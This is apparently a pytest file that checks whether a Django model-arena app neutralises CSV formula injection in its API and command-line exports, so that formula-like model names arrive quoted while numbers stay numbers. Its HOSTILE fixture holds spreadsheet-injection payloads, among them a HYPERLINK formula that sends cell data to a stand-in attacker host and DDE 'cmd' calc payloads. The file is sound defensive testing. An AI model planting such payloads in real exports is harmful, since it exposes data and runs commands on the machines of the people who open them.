"""An analyst opens an export in a spreadsheet: model names that look like formulas arrive as
text (OWASP's CSV-injection advice) in every CSV the API and the commands write, while the
numbers beside them, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command

from arena.csvcells import csv_cell, csv_write
from tests.factories import build_arena, human_votes, imported_verdicts

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


@pytest.mark.parametrize("cell", ["=1+1", "+1+1", "-1+1", "@A1", "\tcmd", "\r=1", "-cmd", "+", "="])
def test_a_text_cell_a_spreadsheet_would_run_is_quoted(cell):
    assert csv_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", [-0.5, -12, 3.25, 0, None, True, "-0.5", "+3", "-1e-3", "1e5", "gpt-4", "a=b", ""]
)
def test_numbers_and_ordinary_text_are_left_alone(cell):
    assert csv_cell(cell) == cell


def test_the_writer_quotes_header_and_cells_and_round_trips_the_rest():
    out = io.StringIO()
    csv_write(out, ["model", "=rating"], [["=cmd", -1.5], ["gpt-4", 1000]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["model", "'=rating"],
        ["'=cmd", "-1.5"],
        ["gpt-4", "1000"],
    ]


@pytest.fixture
def hostile_arena(db, settings):
    arena = build_arena(models=HOSTILE)
    human_votes(arena)
    imported_verdicts(arena)
    return arena


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a number may start like a formula


def test_every_api_csv_export_neutralises_formula_cells(client, hostile_arena):
    board = _rows(client.get("/api/leaderboard/", {"source": "human", "format": "csv"}).content.decode())
    assert {row[board[0].index("model")] for row in board[1:]} == {"'" + name for name in HOSTILE}
    for row in board[1:]:
        float(row[board[0].index("rating")])
    _assert_no_formula(board)

    bias = _rows(client.get("/api/bias/", {"source": "human", "format": "csv"}).content.decode())
    assert any(cell == "'" + HOSTILE[0] for row in bias for cell in row)
    negative = [row[1] for row in bias[1:] if row[1].startswith("-")]
    assert negative and all(float(value) < 0 for value in negative)  # negative numbers stay numbers
    _assert_no_formula(bias)

    agreement = _rows(
        client.get(
            "/api/agreement/", {"a": "human", "b": "import:paper-gpt4", "format": "csv"}
        ).content.decode()
    )
    assert len(agreement) > 1
    _assert_no_formula(agreement)


def test_the_leaderboard_command_csv_neutralises_formula_cells(hostile_arena):
    out = io.StringIO()
    call_command("leaderboard", "--source", "human", "--bootstrap", "0", "--format", "csv", stdout=out)
    rows = _rows(out.getvalue())
    assert {row[rows[0].index("model")] for row in rows[1:]} == {"'" + name for name in HOSTILE}
    _assert_no_formula(rows)
